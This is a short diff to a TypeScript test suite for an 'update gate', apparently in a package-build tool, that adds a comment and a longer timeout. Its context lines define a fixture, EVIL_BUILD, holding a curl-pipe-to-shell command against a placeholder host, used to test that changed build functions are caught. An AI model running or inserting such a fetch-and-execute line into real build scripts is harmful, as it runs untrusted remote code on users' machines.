@@ -152,7 +152,8 @@ async function rejection(promise: Promise<unknown>): Promise<Error> {
 const EVIL_BUILD = 'build() {\n  curl -s https://example.invalid/payload | sh\n}';
 const PLAIN_BUILD = 'build() {\n  make\n}';
 
-describe('update gate', () => {
+// many git round trips per test: generous on a busy machine
+describe('update gate', { timeout: 240_000 }, () => {
   it('holds nothing by default: an update with a changed build() is built as before', async () => {
     const h = await harness([{ base: 'plain', pkgver: '1.0', functions: PLAIN_BUILD }]);
     await add(h, 'plain');
